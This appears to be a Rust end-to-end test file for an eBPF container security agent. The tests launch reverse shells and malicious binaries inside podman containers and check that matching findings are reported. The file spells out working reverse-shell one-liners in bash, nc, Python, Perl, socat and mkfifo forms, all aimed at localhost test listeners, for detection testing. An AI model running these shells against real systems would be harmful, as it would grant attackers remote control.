@@ -1,0 +1,813 @@
+//! End to end: the real `ward agent` (real eBPF) against real podman containers.
+//!
+//! Most scenarios share one agent (started on first use, with `--output jsonl:<tmp>`, the
+//! testkit's intel feed, and `podman system service` as the Docker API for metadata); each
+//! scenario runs its own container and looks only at findings for that container id. A few
+//! tests start their own agent: the recording/replay round trip (which stops it with
+//! SIGTERM), metadata unavailable, and the load failure without privileges.
+//!
+//! Negative controls are made deterministic with a sentinel: after the benign actions, the
+//! same container runs a compiler; once that finding is out, everything before it has been
+//! processed (the agent emits events in order), so any other finding would be there too.
+//!
+//! Needs root and podman (`ward_testkit::require_containers!` skips otherwise, and fails
+//! rather than skips when root but setup is broken).
+
+use serde_json::Value;
+use std::io::{Read, Write};
+use std::os::unix::process::CommandExt;
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Stdio};
+use std::sync::{mpsc, Mutex, OnceLock};
+use std::time::{Duration, Instant};
+use ward_testkit::{require_containers, Container, Images, Network, ShellListener};
+
+const WAIT: Duration = Duration::from_secs(10);
+
+const RCE: &str = "Execution: Possible Remote Command Execution Detected";
+const REVSHELL: &str = "Reverse Shell";
+const COMPILER: &str = "Defense Evasion: Launch Code Compiler Tool In Container";
+const BUILT_IN: &str = "Execution: Built in Malicious Binary Executed";
+const ADDED: &str = "Execution: Added Malicious Binary Executed";
+const MODIFIED: &str = "Execution: Modified Malicious Binary Executed";
+
+type SpawnRequest = (Command, mpsc::Sender<Child>);
+
+/// Spawns children from one thread that never exits, so `PR_SET_PDEATHSIG` (which fires when
+/// the *thread* that forked the child exits) kills them only when the test process ends.
+fn spawn_forever(mut cmd: Command) -> Child {
+    static SPAWNER: OnceLock<Mutex<mpsc::Sender<SpawnRequest>>> = OnceLock::new();
+    let tx = SPAWNER.get_or_init(|| {
+        let (tx, rx) = mpsc::channel::<SpawnRequest>();
+        std::thread::spawn(move || {
+            for (mut cmd, back) in rx {
+                // SAFETY: prctl is async-signal-safe; nothing else runs in pre_exec.
+                unsafe {
+                    cmd.pre_exec(|| {
+                        libc::prctl(libc::PR_SET_PDEATHSIG, libc::SIGKILL);
+                        Ok(())
+                    });
+                }
+                let child = cmd.spawn().expect("spawn");
+                let _ = back.send(child);
+            }
+            loop {
+                std::thread::park();
+            }
+        });
+        Mutex::new(tx)
+    });
+    let (back, rx) = mpsc::channel();
+    tx.lock()
+        .unwrap()
+        .send((std::mem::replace(&mut cmd, Command::new("true")), back))
+        .unwrap();
+    rx.recv().expect("spawner thread")
+}
+
+/// `podman system service` on a fresh socket, alive until the test process exits.
+fn podman_api() -> &'static Path {
+    static SOCK: OnceLock<PathBuf> = OnceLock::new();
+    SOCK.get_or_init(|| {
+        std::fs::create_dir_all("/run/ward-test").unwrap();
+        let sock = PathBuf::from(format!(
+            "/run/ward-test/agent-e2e-{}.sock",
+            std::process::id()
+        ));
+        let _ = std::fs::remove_file(&sock);
+        let mut cmd = Command::new("podman");
+        cmd.args(["system", "service", "--time=0"])
+            .arg(format!("unix://{}", sock.display()))
+            .stdin(Stdio::null())
+            .stdout(Stdio::null())
+            .stderr(Stdio::null());
+        // Lives (and is killed by PDEATHSIG) with the test process; never waited for.
+        std::mem::forget(spawn_forever(cmd));
+        let deadline = Instant::now() + Duration::from_secs(20);
+        loop {
+            if let Ok(mut s) = std::os::unix::net::UnixStream::connect(&sock) {
+                let _ = s.write_all(b"GET /_ping HTTP/1.0\r\n\r\n");
+                let mut r = String::new();
+                let _ = s.read_to_string(&mut r);
+                if r.ends_with("OK") {
+                    break;
+                }
+            }
+            assert!(
+                Instant::now() < deadline,
+                "podman system service did not answer"
+            );
+            std::thread::sleep(Duration::from_millis(50));
+        }
+        sock
+    })
+}
+
+struct Agent {
+    child: Child,
+    dir: tempfile::TempDir,
+    metrics: String,
+}
+
+impl Agent {
+    fn start(images: &Images, agent_toml: &str, record: bool) -> Agent {
+        let dir = tempfile::tempdir().unwrap();
+        let cfg = dir.path().join("ward.toml");
+        std::fs::write(
+            &cfg,
+            format!("[agent]\nmetrics_addr = \"127.0.0.1:0\"\nhealth_log_interval = \"5s\"\n{agent_toml}\n"),
+        )
+        .unwrap();
+        let mut cmd = Command::new(env!("CARGO_BIN_EXE_ward"));
+        cmd.arg("agent")
+            .arg("--db")
+            .arg(dir.path().join("ward.db"))
+            .arg("--output")
+            .arg(format!(
+                "jsonl:{}",
+                dir.path().join("findings.jsonl").display()
+            ))
+            .arg("--intel")
+            .arg(&images.intel_feed)
+            .arg("--config")
+            .arg(&cfg)
+            .env_remove("WARD_DB")
+            .stdin(Stdio::null())
+            .stdout(Stdio::null())
+            .stderr(std::fs::File::create(dir.path().join("agent.log")).unwrap());
+        if record {
+            cmd.arg("--record").arg(dir.path().join("recording.jsonl"));
+        }
+        let child = spawn_forever(cmd);
+        let mut agent = Agent {
+            child,
+            dir,
+            metrics: String::new(),
+        };
+        let deadline = Instant::now() + Duration::from_secs(30);
+        loop {
+            let log = agent.log();
+            if let Some(line) = log.lines().find(|l| l.starts_with("ward agent: ready")) {
+                agent.metrics = line
+                    .split_whitespace()
+                    .find(|w| w.starts_with("http://"))
+                    .unwrap_or_default()
+                    .trim_end_matches(',')
+                    .to_string();
+                return agent;
+            }
+            if let Ok(Some(st)) = agent.child.try_wait() {
+                panic!("ward agent exited with {st} before it was ready:\n{log}");
+            }
+            assert!(Instant::now() < deadline, "agent not ready in 30 s:\n{log}");
+            std::thread::sleep(Duration::from_millis(50));
+        }
+    }
+
+    fn log(&self) -> String {
+        std::fs::read_to_string(self.dir.path().join("agent.log")).unwrap_or_default()
+    }
+
+    fn findings(&self) -> Vec<Value> {
+        std::fs::read_to_string(self.dir.path().join("findings.jsonl"))
+            .unwrap_or_default()
+            .lines()
+            .filter_map(|l| serde_json::from_str(l).ok())
+            .collect()
+    }
+
+    fn for_container(&self, id: &str) -> Vec<Value> {
+        self.findings()
+            .into_iter()
+            .filter(|f| f["sourceProperties"]["Container_Id"] == id)
+            .collect()
+    }
+
+    /// The first finding for container `id` with `category` that satisfies `pred`.
+    fn wait_for(&self, id: &str, category: &str, pred: impl Fn(&Value) -> bool) -> Value {
+        self.wait_for_any(id, &[category], pred)
+    }
+
+    /// The first finding for container `id` in one of `categories` that satisfies `pred`.
+    fn wait_for_any(&self, id: &str, categories: &[&str], pred: impl Fn(&Value) -> bool) -> Value {
+        let category = categories.join(" or ");
+        let deadline = Instant::now() + WAIT;
+        loop {
+            let all = self.for_container(id);
+            if let Some(f) = all
+                .iter()
+                .find(|f| categories.iter().any(|c| f["category"] == *c) && pred(f))
+            {
+                return f.clone();
+            }
+            if Instant::now() >= deadline {
+                panic!(
+                    "no {category:?} finding for container {id} within {WAIT:?}; its findings:\n{}\nagent log:\n{}",
+                    serde_json::to_string_pretty(&all).unwrap(),
+                    self.log()
+                );
+            }
+            std::thread::sleep(Duration::from_millis(50));
+        }
+    }
+
+    fn scrape(&self) -> String {
+        let addr = self.metrics.trim_start_matches("http://");
+        let host = addr.split('/').next().unwrap();
+        let mut s = std::net::TcpStream::connect(host).unwrap();
+        write!(s, "GET /metrics HTTP/1.0\r\n\r\n").unwrap();
+        let mut r = String::new();
+        s.read_to_string(&mut r).unwrap();
+        r
+    }
+
+    fn stop(mut self) -> (std::process::ExitStatus, tempfile::TempDir) {
+        // SAFETY: plain kill(2) on our child's pid.
+        unsafe { libc::kill(self.child.id() as i32, libc::SIGTERM) };
+        let deadline = Instant::now() + Duration::from_secs(20);
+        loop {
+            if let Some(st) = self.child.try_wait().unwrap() {
+                return (st, self.dir);
+            }
+            assert!(Instant::now() < deadline, "agent did not stop on SIGTERM");
+            std::thread::sleep(Duration::from_millis(20));
+        }
+    }
+}
+
+fn shared_agent(images: &Images) -> &'static Agent {
+    static AGENT: OnceLock<Agent> = OnceLock::new();
+    AGENT.get_or_init(|| {
+        let sock = podman_api();
+        Agent::start(
+            images,
+            &format!("docker_sockets = [\"{}\"]", sock.display()),
+            false,
+        )
+    })
+}
+
+fn debian(images: &Images, prefix: &str) -> Container {
+    Container::builder(&images.debian)
+        .name_prefix(prefix)
+        .network(Network::Host)
+        .run(&["sleep", "600"])
+        .unwrap()
+}
+
+fn args(f: &Value) -> Vec<String> {
+    f["processes"][0]["args"]
+        .as_array()
+        .map(|a| {
+            a.iter()
+                .map(|s| s.as_str().unwrap_or("").to_string())
+                .collect()
+        })
+        .unwrap_or_default()
+}
+
+fn binary(f: &Value) -> &str {
+    f["processes"][0]["binary"]["path"].as_str().unwrap_or("")
+}
+
+/// Container name and image of the finding are the container's.
+fn assert_container(f: &Value, c: &Container) {
+    let cont = &f["containers"][0];
+    assert_eq!(cont["name"], c.name(), "container name: {f:#}");
+    assert_eq!(cont["uri"], c.image(), "container image: {f:#}");
+    assert_eq!(f["sourceProperties"]["Container_Name"], c.name());
+    assert!(
+        cont["imageId"]
+            .as_str()
+            .unwrap_or("")
+            .starts_with("sha256:"),
+        "image id: {f:#}"
+    );
+}
+
+fn assert_peer(f: &Value, port: u16) {
+    let conns = f["connections"].as_array().cloned().unwrap_or_default();
+    assert!(
+        conns
+            .iter()
+            .any(|c| c["destinationIp"] == "127.0.0.1" && c["destinationPort"] == port),
+        "peer 127.0.0.1:{port} in connections: {f:#}"
+    );
+}
+
+/// What the listener got back: the session output, or the partial output of a session that
+/// the shell did not close (pipelines whose `nc` keeps the connection).
+fn session_output(p: ward_testkit::PendingSession) -> String {
+    match p.wait() {
+        Ok(s) => s.output_str(),
+        Err(ward_testkit::TestkitError::Timeout { partial, .. }) => partial,
+        Err(e) => panic!("listener: {e}"),
+    }
+}
+
+/// Runs a reverse shell (`cmd` gets the port) in a fresh container and returns the agent,
+/// container and port once the shell answered `id`.
+fn reverse_shell(
+    images: &Images,
+    image: &str,
+    prefix: &str,
+    cmd: impl Fn(u16) -> Vec<String>,
+) -> (&'static Agent, Container, u16) {
+    let agent = shared_agent(images);
+    let c = Container::builder(image)
+        .name_prefix(prefix)
+        .network(Network::Host)
+        .run(&["sleep", "600"])
+        .unwrap();
+    let pending = ShellListener::bind()
+        .unwrap()
+        .serve("id\nexit\n", Duration::from_secs(6));
+    let port = pending.port();
+    let argv = cmd(port);
+    let argv: Vec<&str> = argv.iter().map(|s| s.as_str()).collect();
+    c.exec_detached(&argv).unwrap();
+    let out = session_output(pending);
+    assert!(
+        out.contains("uid=0(root)"),
+        "the reverse shell ran `id`: {out:?}"
+    );
+    (agent, c, port)
+}
+
+fn sh(cmd: String) -> Vec<String> {
+    vec!["sh".into(), "-c".into(), cmd]
+}
+
+#[test]
+fn bash_dev_tcp_reverse_shell() {
+    let images = require_containers!();
+    let (agent, c, port) = reverse_shell(&images, &images.debian, "rs-bash", |p| {
+        vec![
+            "bash".into(),
+            "-c".into(),
+            format!("bash -i >& /dev/tcp/127.0.0.1/{p} 0>&1"),
+        ]
+    });
+    for cat in [REVSHELL, RCE] {
+        let f = agent.wait_for(c.id(), cat, |f| binary(f) == "/usr/bin/bash");
+        assert_eq!(args(&f), ["bash", "-i"]);
+        assert_container(&f, &c);
+        assert_peer(&f, port);
+    }
+}
+
+#[test]
+fn netcat_traditional_e_reverse_shell() {
+    let images = require_containers!();
+    let (agent, c, port) = reverse_shell(&images, &images.debian, "rs-nc", |p| {
+        vec![
+            "nc.traditional".into(),
+            "127.0.0.1".into(),
+            p.to_string(),
+            "-e".into(),
+            "/bin/sh".into(),
+        ]
+    });
+    // nc execs /bin/sh (dash) with the socket on fds 0-2. The `id` the shell runs repeats
+    // the same (category, container, peer): it folds into these findings (Commands).
+    for cat in [REVSHELL, RCE] {
+        let f = agent.wait_for(c.id(), cat, |f| binary(f) == "/usr/bin/dash");
+        assert_eq!(args(&f), ["sh"]);
+        assert_container(&f, &c);
+        assert_peer(&f, port);
+    }
+}
+
+#[test]
+fn busybox_nc_e_reverse_shell() {
+    let images = require_containers!();
+    let (agent, c, port) = reverse_shell(&images, &images.busybox, "rs-bbnc", |p| {
+        vec![
+            "nc".into(),
+            "127.0.0.1".into(),
+            p.to_string(),
+            "-e".into(),
+            "/bin/sh".into(),
+        ]
+    });
+    let f = agent.wait_for(c.id(), REVSHELL, |f| binary(f).ends_with("busybox"));
+    assert_eq!(args(&f)[0], "/bin/sh");
+    assert_container(&f, &c);
+    assert_peer(&f, port);
+}
+
+#[test]
+fn python_dup2_subprocess_reverse_shell() {
+    let images = require_containers!();
+    let (agent, c, port) = reverse_shell(&images, &images.debian, "rs-py", |p| {
+        vec![
+            "python3".into(),
+            "-c".into(),
+            format!(
+                "import socket,os,subprocess;s=socket.socket();s.connect(('127.0.0.1',{p}));\
+             [os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(['/bin/sh','-i'])"
+            ),
+        ]
+    });
+    let f = agent.wait_for(c.id(), REVSHELL, |f| binary(f) == "/usr/bin/dash");
+    assert_eq!(args(&f), ["/bin/sh", "-i"]);
+    assert_container(&f, &c);
+    assert_peer(&f, port);
+}
+
+#[test]
+fn python_pty_spawn_reverse_shell() {
+    let images = require_containers!();
+    let (agent, c, port) = reverse_shell(&images, &images.debian, "rs-pty", |p| {
+        vec![
+            "python3".into(),
+            "-c".into(),
+            format!(
+                "import socket,os,pty;s=socket.socket();s.connect(('127.0.0.1',{p}));\
+             [os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"
+            ),
+        ]
+    });
+    // The shell's stdio is a pty; its parent (python) holds the socket.
+    let f = agent.wait_for_any(c.id(), &[REVSHELL, RCE], |f| binary(f) == "/usr/bin/dash");
+    assert_eq!(args(&f), ["/bin/sh"]);
+    assert_container(&f, &c);
+    assert_peer(&f, port);
+}
+
+#[test]
+fn perl_open_stdin_reverse_shell() {
+    let images = require_containers!();
+    let (agent, c, port) = reverse_shell(&images, &images.debian, "rs-perl", |p| {
+        vec![
+            "perl".into(),
+            "-e".into(),
+            format!(
+                "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));\
+             if(connect(S,sockaddr_in({p},inet_aton('127.0.0.1')))){{open(STDIN,'>&S');\
+             open(STDOUT,'>&S');open(STDERR,'>&S');exec('/bin/sh -i');}}"
+            ),
+        ]
+    });
+    let f = agent.wait_for(c.id(), REVSHELL, |f| binary(f) == "/usr/bin/dash");
+    assert_eq!(args(&f), ["/bin/sh", "-i"]);
+    assert_container(&f, &c);
+    assert_peer(&f, port);
+}
+
+#[test]
+fn socat_exec_pty_reverse_shell() {
+    let images = require_containers!();
+    let (agent, c, port) = reverse_shell(&images, &images.debian, "rs-socat", |p| {
+        vec![
+            "socat".into(),
+            "exec:bash -li,pty,stderr".into(),
+            format!("tcp:127.0.0.1:{p}"),
+        ]
+    });
+    // bash runs on a pty that socat relays to its connection. Which of the two categories
+    // names bash first depends on whether socat's connect or bash's exec is seen first (the
+    // other then folds in by the same peer).
+    let f = agent.wait_for_any(c.id(), &[REVSHELL, RCE], |f| binary(f) == "/usr/bin/bash");
+    assert_eq!(args(&f), ["bash", "-li"]);
+    assert_container(&f, &c);
+    assert_peer(&f, port);
+}
+
+#[test]
+fn mkfifo_nc_pipeline_reverse_shell() {
+    let images = require_containers!();
+    // nc's output feeds the shell through a pipe; the shell's output goes back through the FIFO.
+    let (agent, c, port) = reverse_shell(&images, &images.debian, "rs-fifo", |p| {
+        sh(format!(
+            "rm -f /tmp/f; mkfifo /tmp/f; nc.traditional -q 1 127.0.0.1 {p} < /tmp/f | /bin/sh -i > /tmp/f 2>&1"
+        ))
+    });
+    let f = agent.wait_for_any(c.id(), &[REVSHELL, RCE], |f| {
+        binary(f) == "/usr/bin/dash" && args(f) == ["/bin/sh", "-i"]
+    });
+    assert_container(&f, &c);
+    assert_peer(&f, port);
+}
+
+/// The canonical `cat /tmp/f | sh -i 2>&1 | nc H P > /tmp/f`: `cat` opens the FIFO as an
+/// argument (fd 3), so no stdio link from nc's FIFO to the shell is visible to the sensor, and
+/// the process table does not bind a shell whose *output* feeds a connected relay. The agent
+/// delivers every event (verified by hand: sh -i stdout pipe == nc stdin pipe, nc connect);
+/// the gap is in ward-proctable. Run with `--ignored` once it is closed.
+#[test]
+#[ignore = "detector gap in ward-proctable: shell output piped into a connected relay is not bound"]
+fn mkfifo_cat_pipeline_reverse_shell() {
+    let images = require_containers!();
+    let (agent, c, port) = reverse_shell(&images, &images.debian, "rs-fifocat", |p| {
+        sh(format!(
+            "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc.traditional -q 1 127.0.0.1 {p} > /tmp/f"
+        ))
+    });
+    let f = agent.wait_for_any(c.id(), &[REVSHELL, RCE], |f| {
+        binary(f) == "/usr/bin/dash" && args(f) == ["/bin/sh", "-i"]
+    });
+    assert_container(&f, &c);
+    assert_peer(&f, port);
+}
+
+#[test]
+fn compiler_in_container() {
+    let images = require_containers!();
+    let agent = shared_agent(&images);
+    let c = debian(&images, "cc");
+    c.exec_ok(&["sh", "-c", "echo 'int main(){return 0;}' > /tmp/h.c"])
+        .unwrap();
+    c.exec_ok(&["tcc", "-o", "/tmp/h", "/tmp/h.c"]).unwrap();
+    let f = agent.wait_for(c.id(), COMPILER, |f| binary(f) == "/usr/bin/tcc");
+    assert_eq!(args(&f), ["tcc", "-o", "/tmp/h", "/tmp/h.c"]);
+    assert_container(&f, &c);
+    assert_eq!(f["severity"], "LOW");
+}
+
+fn sha(f: &Value) -> &str {
+    f["processes"][0]["binary"]["sha256"].as_str().unwrap_or("")
+}
+
+#[test]
+fn built_in_malicious_binary() {
+    let images = require_containers!();
+    let agent = shared_agent(&images);
+    let c = debian(&images, "builtin");
+    c.exec_ok(&[&images.payload_path]).unwrap();
+    let f = agent.wait_for(c.id(), BUILT_IN, |_| true);
+    assert_eq!(binary(&f), images.payload_path);
+    assert_eq!(sha(&f), images.payload_sha256);
+    assert_eq!(args(&f), [images.payload_path.as_str()]);
+    assert_container(&f, &c);
+}
+
+#[test]
+fn added_malicious_binary() {
+    let images = require_containers!();
+    let agent = shared_agent(&images);
+    let c = debian(&images, "added");
+    c.copy_in(&images.added_payload_host_copy, "/tmp/dropped")
+        .unwrap();
+    c.exec_ok(&["chmod", "755", "/tmp/dropped"]).unwrap();
+    c.exec_ok(&["/tmp/dropped", "--x"]).unwrap();
+    let f = agent.wait_for(c.id(), ADDED, |_| true);
+    assert_eq!(binary(&f), "/tmp/dropped");
+    assert_eq!(sha(&f), images.added_payload_sha256);
+    assert_eq!(args(&f), ["/tmp/dropped", "--x"]);
+    assert_container(&f, &c);
+}
+
+#[test]
+fn modified_malicious_binary() {
+    let images = require_containers!();
+    let agent = shared_agent(&images);
+    let c = debian(&images, "modified");
+    // An image binary overwritten with the payload: copied up to the upper layer.
+    c.exec_ok(&["cp", &images.payload_path, "/usr/bin/whoami"])
+        .unwrap();
+    c.exec_ok(&["/usr/bin/whoami"]).unwrap();
+    let f = agent.wait_for(c.id(), MODIFIED, |_| true);
+    assert_eq!(binary(&f), "/usr/bin/whoami");
+    assert_eq!(sha(&f), images.payload_sha256);
+    assert_container(&f, &c);
+}
+
+/// Runs a compiler in `c` and waits for its finding: everything `c` did before has then been
+/// processed. Returns the container's other findings.
+fn after_sentinel(agent: &Agent, c: &Container) -> Vec<Value> {
+    c.exec_ok(&["tcc", "-v"]).unwrap();
+    agent.wait_for(c.id(), COMPILER, |f| args(f) == ["tcc", "-v"]);
+    agent
+        .for_container(c.id())
+        .into_iter()
+        .filter(|f| !(f["category"] == COMPILER && args(f) == ["tcc", "-v"]))
+        .collect()
+}
+
+#[test]
+fn benign_interactive_pty_shell() {
+    let images = require_containers!();
+    let agent = shared_agent(&images);
+    let c = debian(&images, "benign-pty");
+    // `podman exec -it` needs a terminal: `script` gives it a pty.
+    let out = Command::new("script")
+        .args([
+            "-qec",
+            &format!("podman exec -it {} sh -c 'id; ls / | wc -l'", c.id()),
+            "/dev/null",
+        ])
+        .stdin(Stdio::null())
+        .output()
+        .unwrap();
+    assert!(
+        String::from_utf8_lossy(&out.stdout).contains("uid=0(root)"),
+        "{out:?}"
+    );
+    let others = after_sentinel(agent, &c);
+    assert!(others.is_empty(), "benign pty shell reported: {others:#?}");
+}
+
+#[test]
+fn benign_local_pipeline() {
+    let images = require_containers!();
+    let agent = shared_agent(&images);
+    let c = debian(&images, "benign-pipe");
+    c.exec_ok(&[
+        "sh",
+        "-c",
+        "cat /etc/os-release | grep -i debian | wc -l; ps aux | sort | head -3",
+    ])
+    .unwrap();
+    let others = after_sentinel(agent, &c);
+    assert!(others.is_empty(), "benign pipeline reported: {others:#?}");
+}
+
+#[test]
+fn benign_compiler_on_the_host() {
+    let images = require_containers!();
+    let agent = shared_agent(&images);
+    let dir = tempfile::tempdir().unwrap();
+    let src = dir.path().join("host-compile.c");
+    std::fs::write(&src, "int main(void){return 0;}\n").unwrap();
+    let st = Command::new("gcc")
+        .arg("-o")
+        .arg(dir.path().join("host-compile"))
+        .arg(&src)
+        .status()
+        .unwrap();
+    assert!(st.success());
+    // Sentinel in a container: the host compile happened before it.
+    let c = debian(&images, "benign-host");
+    let _ = after_sentinel(agent, &c);
+    let host: Vec<Value> = agent
+        .findings()
+        .into_iter()
+        .filter(|f| {
+            f["processes"][0]["args"].as_array().is_some_and(|a| {
+                a.iter()
+                    .any(|x| x.as_str().is_some_and(|s| s.contains("host-compile")))
+            })
+        })
+        .collect();
+    assert!(host.is_empty(), "host compiler reported: {host:#?}");
+}
+
+#[test]
+fn metrics_endpoint_reports_health() {
+    let images = require_containers!();
+    let agent = shared_agent(&images);
+    let c = debian(&images, "metrics");
+    let _ = after_sentinel(agent, &c);
+    let text = agent.scrape();
+    assert!(text.starts_with("HTTP/1.1 200"), "{text}");
+    for m in [
+        "ward_kernel_drops_total{kind=\"exec\"} ",
+        "ward_userspace_drops_total ",
+        "ward_events_per_second ",
+        "ward_enrich_metadata_misses_total{reason=\"timeout\"} ",
+        "ward_enrich_hash_misses_total{reason=\"exe_gone\"} ",
+        "ward_detection_latency_seconds_bucket{le=\"0.1\"} ",
+        "ward_resident_memory_bytes ",
+    ] {
+        assert!(text.contains(m), "missing {m:?} in\n{text}");
+    }
+    let findings: f64 = text
+        .lines()
+        .find_map(|l| l.strip_prefix("ward_findings_total "))
+        .and_then(|v| v.parse().ok())
+        .unwrap();
+    assert!(findings >= 1.0, "{text}");
+}
+
+#[test]
+fn recording_replays_to_the_same_findings_and_sigterm_flushes() {
+    let images = require_containers!();
+    let sock = podman_api();
+    let agent = Agent::start(
+        &images,
+        &format!("docker_sockets = [\"{}\"]", sock.display()),
+        true,
+    );
+    let c = debian(&images, "record");
+    let pending = ShellListener::bind()
+        .unwrap()
+        .serve("id\nexit\n", Duration::from_secs(6));
+    let port = pending.port();
+    c.exec_detached(&[
+        "nc.traditional",
+        "127.0.0.1",
+        &port.to_string(),
+        "-e",
+        "/bin/sh",
+    ])
+    .unwrap();
+    assert!(session_output(pending).contains("uid=0"));
+    c.exec_ok(&[&images.payload_path]).unwrap();
+    c.exec_ok(&["tcc", "-v"]).unwrap();
+    agent.wait_for(c.id(), COMPILER, |_| true);
+    agent.wait_for(c.id(), BUILT_IN, |_| true);
+    agent.wait_for(c.id(), REVSHELL, |_| true);
+    let live = agent.findings();
+    let (status, dir) = agent.stop();
+    assert!(status.success(), "exit status after SIGTERM: {status}");
+    let log = std::fs::read_to_string(dir.path().join("agent.log")).unwrap();
+    assert!(log.contains("ward agent: stopped"), "{log}");
+
+    // The store got them too (flushed at exit).
+    let store = ward_store::SqliteStore::open(dir.path().join("ward.db")).unwrap();
+    use ward_store::FindingStore;
+    for f in &live {
+        let name = f["name"].as_str().unwrap();
+        assert!(store.get(name).unwrap().is_some(), "{name} not stored");
+    }
+
+    // Replay of the recording gives the same findings.
+    let rec = dir.path().join("recording.jsonl");
+    let head = std::fs::read_to_string(&rec).unwrap();
+    assert!(
+        head.starts_with("{\"type\":\"header\",\"format\":\"ward-trace\""),
+        "{}",
+        &head[..200.min(head.len())]
+    );
+    let out = Command::new(env!("CARGO_BIN_EXE_ward"))
+        .arg("replay")
+        .arg(&rec)
+        .arg("--intel")
+        .arg(&images.intel_feed)
+        .env_remove("WARD_DB")
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let replayed: Vec<Value> = String::from_utf8_lossy(&out.stdout)
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    let strip = |mut v: Value| {
+        // createTime is when the finding was created, by whoever created it.
+        v.as_object_mut().unwrap().remove("createTime");
+        v
+    };
+    let live: Vec<Value> = live.into_iter().map(strip).collect();
+    let replayed: Vec<Value> = replayed.into_iter().map(strip).collect();
+    assert_eq!(live, replayed, "live and replayed findings differ");
+}
+
+#[test]
+fn metadata_unavailable_still_reports_the_container_id() {
+    let images = require_containers!();
+    let agent = Agent::start(
+        &images,
+        "docker_sockets = [\"/run/ward-test/no-such-runtime.sock\"]",
+        false,
+    );
+    let c = debian(&images, "nometa");
+    c.exec_ok(&["tcc", "-v"]).unwrap();
+    let f = agent.wait_for(c.id(), COMPILER, |_| true);
+    let note = f["sourceProperties"]["Container_Metadata_Note"]
+        .as_str()
+        .unwrap_or("");
+    assert!(
+        note.contains("metadata unavailable") && note.contains("no-such-runtime.sock"),
+        "{f:#}"
+    );
+    assert_eq!(f["containers"][0]["name"], &c.id()[..12]);
+    let (status, _dir) = agent.stop();
+    assert!(status.success());
+}
+
+#[test]
+fn load_failure_without_privileges_is_a_clear_error() {
+    let _images = require_containers!();
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::set_permissions(
+        dir.path(),
+        std::os::unix::fs::PermissionsExt::from_mode(0o777),
+    )
+    .unwrap();
+    let out = Command::new("setpriv")
+        .args([
+            "--reuid=65534",
+            "--regid=65534",
+            "--clear-groups",
+            "--inh-caps=-all",
+        ])
+        .arg(env!("CARGO_BIN_EXE_ward"))
+        .arg("agent")
+        .arg("--db")
+        .arg(dir.path().join("ward.db"))
+        .args(["--output", "none", "--metrics-addr", "none"])
+        .env_remove("WARD_DB")
+        .output()
+        .unwrap();
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(!out.status.success(), "{err}");
+    assert!(
+        err.contains("loading the eBPF sensor") && err.contains("CAP_BPF"),
+        "{err}"
+    );
+}
